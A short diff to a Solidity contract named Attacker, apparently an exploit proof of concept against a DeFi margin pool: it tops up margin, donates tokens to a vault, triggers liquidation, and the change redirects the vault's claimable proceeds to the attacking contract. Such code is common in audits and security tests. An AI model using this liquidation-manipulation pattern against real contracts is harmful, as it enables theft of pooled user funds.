@@ -35,7 +35,7 @@ contract Attacker is ITokenHook {
         if (topUp != 0) pool.addMargin(vault, topUp);
         if (donation != 0) token.transfer(vault, donation);
         liquidator.liquidate(vault);
-        if (pool.claimable(address(this)) != 0) pool.claim(address(this));
+        if (pool.claimable(vault) != 0) pool.claim(vault, address(this));
         return token.balanceOf(address(this));
     }
 
